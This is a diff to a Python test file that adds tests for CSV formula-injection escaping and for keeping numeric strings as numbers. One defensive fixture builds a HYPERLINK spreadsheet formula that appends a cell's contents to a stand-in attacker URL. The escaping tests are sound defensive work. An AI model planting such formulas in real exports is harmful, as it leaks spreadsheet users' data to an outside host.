@@ -8,6 +8,7 @@ from typing import Any
 
 import numpy as np
 import pandas as pd
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -21,9 +22,42 @@ def test_csv_reads_back_to_the_same_cells(rows: list[tuple[Any, Any]]) -> None:
     head, *back = csv.reader(io.StringIO(csv_text(("a", "b"), rows)))
     assert head == ["a", "b"]
     assert [
-        [type(cell)(text) for cell, text in zip(row, texts, strict=True)]
+        [float(text) if isinstance(cell, float) else text for cell, text in zip(row, texts, strict=True)]
         for row, texts in zip(rows, back, strict=True)
-    ] == [list(row) for row in rows]
+    ] == [[read(cell) for cell in row] for row in rows]
+
+
+def read(cell: Any) -> Any:
+    """A cell as a file has it: a text that begins like a formula is one with an apostrophe before it."""
+    if (
+        not isinstance(cell, str)
+        or cell[:1] not in ("=", "+", "-", "@", "＝", "＋", "－", "＠")
+        or is_number(cell)
+    ):
+        return cell
+    return f"'{cell}" if cell else cell
+
+
+def is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
+def test_no_text_is_a_formula_of_a_spreadsheet(start: str) -> None:
+    text = f'{start}HYPERLINK("http://evil.example/"&A1)'
+    head, row = csv.reader(io.StringIO(csv_text((text,), [(text,)]), newline=""))
+    assert head == row == [f"'{text}"]
+    assert csv_of_records([{"name": text}]).count(f"'{start}") == 1
+
+
+def test_numbers_stay_numbers_also_where_they_come_as_texts() -> None:
+    cells = (-0.5, "-0.5", "+3", "-1e-10", "-inf", -3, None, "a=b", "", True)
+    (row,) = csv.reader(io.StringIO(csv_text("abcdefghij", [cells]).split("\n")[1]))
+    assert row == ["-0.5", "-0.5", "+3", "-1e-10", "-inf", "-3", "", "a=b", "", "True"]
 
 
 def test_a_number_of_numpy_is_written_as_a_number() -> None:
